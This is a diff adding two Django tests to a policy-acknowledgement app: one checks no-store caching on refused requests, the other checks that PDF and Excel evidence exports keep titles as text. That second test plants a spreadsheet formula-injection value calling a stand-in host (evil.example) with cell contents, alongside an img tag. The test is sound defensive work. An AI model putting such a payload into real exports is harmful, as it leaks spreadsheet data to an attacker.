@@ -62,3 +62,43 @@ def test_acknowledge_needs_post_csrf_and_a_verified_session(regulation, user_wit
     strict.cookies = verified_client(reader).cookies
     assert strict.post(url, {"version": "1", "confirm": "yes"}).status_code == 403
     assert Acknowledgement.objects.get(user=reader).acknowledged_at is None
+
+
+def test_refusals_on_the_acknowledge_route_are_never_cached(regulation, user_with, verified_client):
+    reader = user_with(0)
+    page = regulation()
+    url = page.url + "acknowledge/"
+    response = verified_client(reader).get(url)
+    assert response.status_code == 405 and "no-store" in response["Cache-Control"]
+    from django.test import Client
+
+    strict = Client(enforce_csrf_checks=True)
+    strict.cookies = verified_client(reader).cookies
+    refused = strict.post(url, {"version": "1", "confirm": "yes"})
+    assert refused.status_code == 403 and "no-store" in refused["Cache-Control"]
+    assert "无权访问" in refused.content.decode()
+    served = verified_client(reader).get(page.url)
+    assert "private" in served["Cache-Control"]
+
+
+def test_evidence_exports_treat_titles_as_text(regulation, user_with, verified_client, publish):
+    """A title with markup or a formula stays text in the PDF and the Excel export (no image, no formula)."""
+    import io
+
+    from django.contrib.auth.models import Permission
+    from openpyxl import load_workbook
+
+    reader = user_with(0, username="reader")
+    admin = user_with(0, username="office")
+    admin.user_permissions.add(
+        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="view_acknowledgement")
+    )
+    page = regulation(title='=HYPERLINK("http://evil.example/?x="&A4,"点击") <img src="/etc/x.png"/> A <B')
+    client = verified_client(admin)
+    pdf = client.get(f"/admin/policies/acknowledgements/person/{reader.pk}/evidence.pdf")
+    assert pdf.status_code == 200 and b"/Subtype /Image" not in pdf.content
+    version = page.versions.get()
+    xlsx = client.get(f"/admin/policies/acknowledgements/{version.pk}/?format=xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("=HYPERLINK")]
+    assert cells and all(cell.data_type == "s" for cell in cells)
